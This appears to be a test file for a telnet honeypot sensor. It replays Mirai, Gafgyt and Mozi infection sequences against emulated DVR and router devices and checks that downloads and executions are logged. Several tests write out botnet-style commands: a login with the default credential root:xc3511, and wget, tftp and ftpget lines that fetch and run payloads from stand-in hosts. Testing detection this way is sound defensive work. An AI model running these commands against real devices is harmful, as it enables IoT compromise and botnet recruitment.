import assert from 'node:assert/strict'
import { createHash } from 'node:crypto'
import { after, before, describe, test } from 'node:test'
import { type Host, inertElf, infect, type Loader, machineOf, octetLines, play, startHost } from './telnet-loader.ts'

// The sensor of these tests has a router of the little kind, as the inert programs are.
// Mirai's family against what it is made for: a recorder (ARM) and a router (MIPS), which have BusyBox and little else.

const sha256 = (data: Buffer) => createHash('sha256').update(data).digest('hex')
// What the sensor's own network made up is run without being a sample.
type Upload = { path: string; sample?: { sha256: string } }
type Download = { url: string; tool: string }
type Execution = Upload & { runs: boolean; format: string }

async function logIn(loader: Loader, user: string, password: string): Promise<void> {
  await loader.expect(/ogin: $/)
  loader.send(user)
  await loader.expect(/assword: $/)
  loader.send(password)
  await loader.expect(/# $/)
}

const devices = [
  { device: 'dvr', machine: 40, name: 'arm' },
  { device: 'busybox', machine: 8, name: 'mips' },
] as const

for (const { device, machine, name } of devices) {
  describe(`a ${device} device`, () => {
    let host: Host
    before(async () => {
      host = await startHost({ device, access: { rules: ['root:xc3511'] } })
    })
    after(() => host.close())
    const seen = <T>(what: string) => host.events.filter(event => event.name === what).map(event => event.details as T)

    test('Mirai by wget: finds what can be written to and what the processor is', async () => {
      let folder = ''
      await play(host, async loader => {
        const found = await infect(loader, 'root', 'xc3511', machine)
        folder = found.folder
        assert.ok(found.wget && found.tftp)
        const url = `http://203.0.113.66:80/bins/mirai.${name}`
        await loader.query(`/bin/busybox wget ${url} -O - > dvrHelper; /bin/busybox chmod 777 dvrHelper`, 'ECCHI')
        await loader.query(`./dvrHelper telnet.${name}`, 'IHCCE')
      })
      // The first that /proc/mounts calls writable is the empty file system below the root, and is not.
      assert.match(folder, /^\/(dev|tmp|var|mnt\/mtd)/)
      const [download] = seen<Download>('fileDownload')
      assert.equal(download?.url, `http://203.0.113.66:80/bins/mirai.${name}`)
    })

    test('Mirai by echo: the dropper is a sample, and only one for this processor runs', async () => {
      const dropper = inertElf(machine, 32, 1100)
      const foreign = inertElf(62, 64, 700)
      await play(host, async loader => {
        await infect(loader, 'root', 'xc3511', machine)
        await loader.query('/bin/busybox cp dvrHelper upnp; > upnp; /bin/busybox chmod 777 upnp', 'ECCHI')
        for (const [at, octets] of octetLines(dropper, 128).entries())
          await loader.query(`/bin/busybox echo -ne '${octets}' ${at === 0 ? '>' : '>>'} upnp`, 'ECCHI')
        await loader.query('./upnp > dvrHelper; ./dvrHelper', 'IHCCE')
        for (const [at, octets] of octetLines(foreign, 128).entries())
          await loader.query(`/bin/busybox echo -ne '${octets}' ${at === 0 ? '>' : '>>'} upnp`, 'ECCHI')
        const answer = await loader.query('./upnp', 'IHCCE')
        assert.match(answer, /upnp: (line 1: )?syntax error|Exec format error|not found/)
      })
      const runs = seen<Execution>('execution')
      assert.ok(runs.some(({ sample }) => sample?.sha256 === sha256(dropper)))
      assert.equal(runs.find(({ sample }) => sample?.sha256 === sha256(foreign))?.runs, false)
    })

    test('Gafgyt: one line of folders, wget, tftp and ftpget', async () => {
      await play(host, async loader => {
        await logIn(loader, 'root', 'xc3511')
        loader.send('sh')
        await loader.expect(/# $/)
        loader.send("/bin/busybox;/bin/busybox echo -e '\\147\\141\\171\\146\\147\\164'")
        await loader.expect('multi-call binary')
        await loader.expect('gayfgt\r\n')
        loader.send(
          'cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://198.51.100.77/bins.sh; chmod 777 bins.sh; sh bins.sh; ' +
            'tftp 198.51.100.77 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 198.51.100.77; chmod 777 tftp2.sh; sh tftp2.sh; ' +
            'ftpget -v -u anonymous -p anonymous -P 21 198.51.100.77 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; echo do""ne',
        )
        await loader.expect('\ndone\r\n')
        loader.send('exit')
      })
      const urls = seen<Download>('fileDownload').map(({ url }) => url)
      for (const url of [
        'http://198.51.100.77/bins.sh',
        'tftp://198.51.100.77/tftp2.sh',
        'ftp://198.51.100.77/ftp1.sh',
      ])
        assert.ok(urls.includes(url), `${url} not in ${urls.join(' ')}`)
    })

    test('Mozi: 52 octets of a program, then wget', async () => {
      await play(host, async loader => {
        await logIn(loader, 'root', 'xc3511')
        for (const word of ['enable', 'system', 'shell', 'sh']) loader.send(word)
        assert.match(await loader.query('cat /proc/mounts', 'VHUIZ'), /squashfs ro/)
        assert.match(await loader.query('cd /etc; > .s', 'VHUIZ'), /can't create \.s: Read-only file system/)
        await loader.query('cd /dev/shm; cat .s || cp /bin/echo .s', 'VHUIZ')
        await loader.query('tftp; wget', 'VHUIZ')
        const head = await loader.query(
          'dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s',
          'VHUIZ',
        )
        assert.equal(machineOf(head), machine)
        assert.match(
          await loader.query('curl http://192.0.2.1/; python -c 1', 'VHUIZ'),
          /curl: not found[\s\S]*python: not found/,
        )
        loader.send('rm .s; wget http://203.0.113.201:41375/.i; chmod 777 .i; ./.i; exit')
        loader.send('exit')
      })
      const urls = seen<Download>('fileDownload').map(({ url }) => url)
      assert.ok(urls.includes('http://203.0.113.201:41375/.i'), urls.join(' '))
    })

    test('three wrong passwords end it; every one is told of', async () => {
      const before = seen('login').length
      await play(host, async loader => {
        for (let tries = 0; tries < 3; tries++) {
          await loader.expect(/ogin: $/)
          loader.send('admin')
          await loader.expect(/assword: $/)
          loader.send(`wrong${tries}`)
          await loader.expect('Login incorrect\r\n')
        }
        await assert.rejects(loader.expect(/ogin: $/), /hung up/)
      })
      assert.equal(seen('login').length, before + 3)
    })
  })
}
